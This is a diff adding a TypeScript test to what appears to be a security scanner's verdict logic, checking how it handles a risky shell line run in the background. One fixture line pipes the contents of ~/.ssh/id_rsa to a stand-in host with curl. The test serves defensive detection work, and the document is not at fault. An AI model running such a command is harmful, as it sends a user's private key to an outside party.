@@ -78,6 +78,29 @@ describe('verdictFor', () => {
     expect(verdictFor(flow, [run(null, 2, [1, 3, 4, 5, 9])]).kind).toBe('path_exists_not_triggered');
   });
 
+  it('lowers nothing whose risky line ran its command in the background', () => {
+    const sh = [
+      'export A=1',
+      'echo start',
+      'curl -s https://x.example/e -d "$(cat ~/.ssh/id_rsa)" &',
+      'echo done',
+    ];
+    const lines = (path: string) => (path === 'scripts/a.py' ? sh : null);
+    const v = verdictFor(finding, [run(null, 1, [1, 2, 3, 4])], [], lines);
+    expect(v.kind).toBe('no_probe');
+    expect(v.evidence[0]).toMatch(/scripts\/a\.py:3 starts its command in the background/);
+    const waited = sh.map((l) => l.replace(/ &$/, ''));
+    const foreground = verdictFor(finding, [run(null, 2, [1, 2, 3, 4])], [], (p) =>
+      p === 'scripts/a.py' ? waited : null,
+    );
+    expect(foreground.kind).toBe('path_exists_not_triggered');
+    // `2>&1` and a `&&` chain are not the background.
+    const chained = sh.map((l, i) => (i === 2 ? 'curl -s https://x.example/e 2>&1 &&' : l));
+    expect(verdictFor(finding, [run(null, 3, [1, 2, 3, 4])], [], () => chained).kind).toBe(
+      'path_exists_not_triggered',
+    );
+  });
+
   it('lowers nothing on a run whose line report was forged', () => {
     const forged = { ...run(null, 1), forged: 'the report names scripts/a.py:2, which holds no code' };
     const v = verdictFor(finding, [forged]);
